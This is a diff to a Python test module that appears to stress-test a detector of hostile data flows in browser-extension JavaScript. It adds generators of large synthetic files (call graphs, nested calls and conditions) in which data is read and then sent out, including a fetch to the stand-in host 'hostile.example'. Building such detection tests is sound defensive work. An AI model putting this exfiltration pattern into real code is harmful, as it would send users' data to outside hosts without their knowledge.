@@ -6,7 +6,9 @@ a flow of an ordinary kind beside the hostile part: it has to be found whatever 
 
 import argparse
 import time
-from collections.abc import Callable, Iterator, Mapping
+from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
+from math import isqrt
+from random import Random
 from typing import Final, NamedTuple
 from unittest.mock import patch
 
@@ -131,6 +133,52 @@ def _fields(n: int) -> dict[str, str]:
     return {"content.js": f"const o = {{}};\n{passing}{stores}{_sent('JSON.stringify(o)')}{TRUE}"}
 
 
+def _graph(calls: Iterable[Sequence[int]]) -> dict[str, str]:
+    """A call graph: each function hands its parameter to others, and returns it, or what one of them returns."""
+    made = "".join(
+        f"function f{i}(x) {{ return {' || '.join([*(f'f{j}(x)' for j in called), 'x'])}; }}\n"
+        for i, called in enumerate(calls)
+    )
+    return {"content.js": made + _sent(f"f0({READ})") + TRUE}
+
+
+def _random_graph(n: int) -> dict[str, str]:
+    """Functions each of which calls three others, drawn by lot."""
+    draw = Random(n)
+    return _graph([draw.randrange(n) for _ in range(3)] for _ in range(n))
+
+
+def _layered_graph(n: int) -> dict[str, str]:
+    """Layers of ten functions, each of which calls all ten of the next layer: there are ten to the n / 10 ways."""
+    return _graph(range(start, min(start + 10, n)) for start in (i // 10 * 10 + 10 for i in range(n)))
+
+
+def _complete_graph(n: int) -> dict[str, str]:
+    """So many functions that all call one another that there are n calls."""
+    return _graph(range(isqrt(n)) for _ in range(isqrt(n)))
+
+
+def _nested_calls(n: int) -> dict[str, str]:
+    """A call in a call in a call."""
+    return {"content.js": f"function f(x) {{ return x; }}\n{_sent('f(' * n + READ + ')' * n)}{TRUE}"}
+
+
+def _nested_functions(n: int) -> dict[str, str]:
+    """A function in a function in a function, each called at once; the data is read outermost and sent innermost."""
+    return {"content.js": f"const name = {READ};\n" + "(() => {\n" * n + _sent("name") + "})();" * n + TRUE}
+
+
+def _nested_conditions(n: int) -> dict[str, str]:
+    """Conditions inside each other, and an address that each may change."""
+    return {
+        "content.js": "let at = 'https://hostile.example/', o = {};\n"
+        + "".join(f"if (o.c{i}) {{ at += 'x{i}';\n" for i in range(n))
+        + f"fetch(at, {{body: {READ}}});\n"
+        + "}" * n
+        + TRUE
+    }
+
+
 class Shape(NamedTuple):
     """A hostile shape: what makes it, and the size that the tests give it."""
 
@@ -153,6 +201,12 @@ SHAPES: Final[Mapping[str, Shape]] = {
     "text that doubles": Shape(_templates, 1_000),
     "choices in an address": Shape(_choices, 2_000),
     "fields that are passed round": Shape(_fields, 1_000),
+    "calls in calls": Shape(_nested_calls, 10_000),
+    "functions in functions": Shape(_nested_functions, 2_000),
+    "conditions in conditions": Shape(_nested_conditions, 5_000),
+    "random call graph": Shape(_random_graph, 5_000),
+    "layered call graph": Shape(_layered_graph, 2_000),
+    "complete call graph": Shape(_complete_graph, 10_000),
 }
 
 
